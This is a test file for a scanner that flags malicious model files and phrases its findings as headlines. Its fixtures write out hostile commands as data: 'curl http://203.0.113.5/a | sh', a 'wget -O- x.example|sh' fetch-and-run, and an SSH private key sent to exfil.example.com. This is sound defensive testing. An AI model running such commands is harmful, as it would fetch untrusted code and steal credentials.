import { describe, expect, it } from 'vitest';
import { actOnObject, headlineOf } from '../../src/core/headline.js';
import { publishedScan } from '../../src/core/published.js';
import type { Conversation, Finding, ScanReport } from '../../src/core/schema.js';
import { finding, HOSTILE, inconclusive, malicious, RAW_CONTROL, scan } from '../report/samples.js';

const STORY = 'builtins.exec at byte 2';

/** A finding of the run, at a line of the trace. */
function act(rule: string, line: number, changes: Partial<Finding> = {}): Finding {
  return finding({
    rule,
    title: rule,
    story: STORY,
    evidence: [{ text: '…', pid: 14, time: line / 1000, line }],
    ...changes,
  });
}

function conversation(changes: Partial<Conversation> = {}): Conversation {
  return {
    protocol: 'HTTP',
    address: '198.51.100.10',
    port: 80,
    name: 'exfil.example.com',
    pid: 14,
    sent: '',
    received: '',
    bytesSent: 1873,
    bytesReceived: 122,
    result: 'The sandbox answered in place of the network.',
    ...changes,
  };
}

function says(findings: readonly Finding[], changes: Partial<ScanReport> = {}): string {
  return headlineOf(malicious({ findings: [...findings], ...changes })).sentence;
}

const CONTACT = act('DYN-NET-CONTACT', 621, { severity: 'high', subject: '198.51.100.10 port 80' });
const KEY = { name: 'an SSH private key', path: '/home/model/.ssh/id_rsa' };
const READ_KEY = act('DYN-CRED-SSH', 583, { subject: KEY.path, decoy: { ...KEY, use: 'read' } });
const THEFT = act('DYN-THEFT-PROOF', 623, {
  decoy: { ...KEY, use: 'taken' },
  facts: { destination: { way: 'send', place: '198.51.100.10 port 80' } },
});
const SHELL = act('DYN-EXEC-SHELL', 700, {
  severity: 'high',
  subject: 'sh -c id',
  facts: { argv: ['sh', '-c', '--', 'id'] },
});
const STATIC_EXEC = finding({
  rule: 'STATIC-PICKLE-EXEC',
  engine: 'static',
  title: 'The file starts a program when it is loaded',
  evidence: [{ text: 'asks for posix.system', offset: 2 }],
  facts: { given: ['curl http://203.0.113.5/a | sh'] },
});

describe('the headline of a malicious model', () => {
  const talks = { conversations: [conversation()] };

  it('names the secret that left the machine, and the machine that has it', () => {
    expect(says([STATIC_EXEC, SHELL, READ_KEY, CONTACT, THEFT], talks)).toBe(
      'Sends your ~/.ssh/id_rsa to exfil.example.com when it is loaded.',
    );
    const more = act('DYN-THEFT-PROOF', 624, {
      decoy: { name: 'a cloud key', path: '/home/model/.aws/credentials', use: 'taken' },
      facts: { destination: { way: 'send', place: '198.51.100.10 port 80' } },
    });
    expect(says([THEFT, more])).toBe(
      'Sends your ~/.ssh/id_rsa and 1 more secret to 198.51.100.10 port 80 when it is loaded.',
    );
  });

  it('names no secret that only was read as sent', () => {
    expect(says([READ_KEY, CONTACT], talks)).toBe(
      'Reads your ~/.ssh/id_rsa and sends data to exfil.example.com when it is loaded.',
    );
    const accounts = act('DYN-CRED-ACCOUNTS', 590, { severity: 'medium', subject: '/etc/passwd' });
    expect(says([accounts, CONTACT], talks)).toBe(
      'Reads your /etc/passwd and sends data to exfil.example.com when it is loaded.',
    );
    expect(says([accounts, CONTACT], { conversations: [conversation({ bytesSent: 0 })] })).toBe(
      'Contacts exfil.example.com when it is loaded.',
    );
    expect(says([{ ...accounts, story: 'another' }, CONTACT], talks)).toBe(
      'Sends data to exfil.example.com when it is loaded.',
    );
  });

  it('does not take the settings of a program that transfers files for a secret', () => {
    const wget = act('DYN-EXEC-FETCH', 570, {
      subject: 'wget http://198.51.100.10/b',
      facts: { argv: ['wget', 'http://198.51.100.10/b'] },
    });
    expect(says([wget, READ_KEY, CONTACT], talks)).toBe(
      'Starts wget, which transfers files when it is loaded: “wget http://198.51.100.10/b”.',
    );
  });

  it('says what a command does that fetches a program and runs it, seen or read', () => {
    const words = 'Starts a shell that downloads a program and runs it when it is loaded.';
    expect(says([STATIC_EXEC])).toBe(words);
    expect(
      says([SHELL, act('DYN-EXEC-FETCH', 690, { facts: { argv: ['bash', '-c', 'wget -O- x.example|sh'] } })]),
    ).toBe(words);
  });

  it('prefers what was seen to what was read, and says when it happened', () => {
    const read = { ...STATIC_EXEC, facts: { given: ['id'] } };
    expect(says([read])).toBe('Starts a program when it is loaded: “id”.');
    expect(says([read, SHELL])).toBe('Starts a shell that runs “id” when it is loaded.');
    expect(says([{ ...SHELL, phase: 'use' }])).toBe('Starts a shell that runs “id” when it is used.');
    expect(says([{ ...SHELL, phase: 'after' }])).toBe('Starts a shell that runs “id” after it was loaded.');
  });

  it('speaks by the title of the rule where nothing is known of the act', () => {
    expect(says([act('DYN-OTHER', 1, { title: 'Fills the disk' })])).toBe('Fills the disk when it is loaded.');
    const odd = finding({
      rule: 'STATIC-OTHER',
      engine: 'static',
      title: 'The archive holds a link that leads outside',
    });
    expect(says([odd])).toBe('The archive holds a link that leads outside.');
    expect(headlineOf(malicious({ findings: [odd] })).short).toBe('the archive holds a link that leads outside');
  });

  it('leaves milder findings out, however they rank', () => {
    const mild = { ...SHELL, severity: 'medium' as const };
    expect(says([mild, act('DYN-OTHER', 1, { title: 'Fills the disk' })])).toBe('Fills the disk when it is loaded.');
    expect(headlineOf(scan({ verdict: 'suspicious', findings: [mild] })).short).toBe('starts a shell that runs “id”');
  });

  it('is bounded and safe to show, whatever the model holds', () => {
    const long = HOSTILE.repeat(300);
    const all = [
      { ...SHELL, facts: { argv: [long, '-c', long] }, subject: long },
      { ...CONTACT, subject: long },
      { ...THEFT, facts: { destination: { way: 'command' as const, place: long } } },
      { ...STATIC_EXEC, facts: { given: [long] } },
      act('DYN-OTHER', 1, { title: long }),
    ];
    for (const one of all) {
      const { sentence, short } = headlineOf(malicious({ findings: [one] }));
      expect(sentence).not.toMatch(RAW_CONTROL);
      expect(short).not.toMatch(RAW_CONTROL);
      expect(sentence.length).toBeLessThan(3000);
    }
  });
});

describe('the headline of a model without findings', () => {
  const short = (changes: Partial<ScanReport>): string => headlineOf(inconclusive(changes)).short;

  it('says how it was looked at', () => {
    expect(headlineOf(scan())).toEqual({
      sentence: 'Nothing was found: it was read, loaded and used.',
      short: 'nothing found, read and run',
    });
    const engines: ScanReport['engines'] = [{ engine: 'static', status: 'completed', reasons: [] }];
    expect(headlineOf(scan({ engines, load: { outcome: 'not-run' } })).sentence).toBe(
      'Nothing was found: it was read to its end and not loaded.',
    );
  });

  it('says what it needs, or how the load ended, before any other gap', () => {
    expect(short({ load: { outcome: 'missing-dependency', missing: 'mymodel' } })).toBe('needs mymodel');
    expect(short({ load: { outcome: 'loaded', standIns: ['__main__.Net'], definedIn: ['train.py'] } })).toBe(
      'needs Net (train.py defines it)',
    );
    expect(short({ load: { outcome: 'crashed', signal: 'SIGSEGV' } })).toBe('crashed (SIGSEGV)');
    expect(short({ model: { path: 'a', format: 'empty', size: 0 } })).toBe('is empty');
    expect(short({ model: { path: 'a', format: 'unknown', size: 1 } })).toBe('is of no known format');
    const text = 'One byte after the end is no pickle.';
    expect(
      headlineOf(
        inconclusive({ load: { outcome: 'loaded' }, coverage: { gaps: [{ kind: 'static', text }], ifClean: '' } }),
      ),
    ).toEqual({
      sentence: text,
      short: 'one byte after the end is no pickle',
    });
  });
});

it('stands in the published report', () => {
  expect(publishedScan(scan()).headline).toBe('Nothing was found: it was read, loaded and used.');
});

describe('a row of Problems', () => {
  const row = (own: Finding, all: readonly Finding[] = [own]): string =>
    actOnObject(own, { findings: [...all], conversations: [conversation()] });

  it('begins with what is done to what, and not with what all findings of the rule share', () => {
    expect(row(act('DYN-CRED-SSH', 1, { title: 'Looks for SSH keys', subject: '/home/model/.ssh/id_rsa' }))).toBe(
      'Looks for SSH keys: ~/.ssh/id_rsa',
    );
    expect(row(READ_KEY)).toBe('Reads your ~/.ssh/id_rsa');
    expect(row(CONTACT)).toMatch(/^(?:Sends data to|Contacts) exfil\.example\.com$/);
    expect(row(SHELL)).toBe('Starts a shell that runs “id”');
    expect(row(THEFT)).toBe('Sends your ~/.ssh/id_rsa to exfil.example.com');
    expect(row(act('DYN-PERM-EXECUTABLE', 1, { title: 'Makes a file a program', subject: '/tmp/y' }))).toBe(
      'Makes a file a program: /tmp/y',
    );
  });

  it('names no key of a rule as if it were an object', () => {
    expect(row(act('DYN-NET-TUNNEL', 1, { subject: 'names' }))).toBe('Smuggles data out inside name look-ups');
    expect(row(act('DYN-PY-CODE', 1, { title: 'Runs Python code of its own', subject: 'code' }))).toBe(
      'Runs Python code of its own',
    );
  });

  it('is one line of text, whatever the subject holds', () => {
    const text = row(act('DYN-WRITE-X', 1, { title: 'Writes', subject: `/a\n${RAW_CONTROL}${'y'.repeat(5_000)}` }));
    expect(text).not.toContain('\n');
    expect(text).not.toContain(RAW_CONTROL);
    expect(text.length).toBeLessThan(400);
  });
});
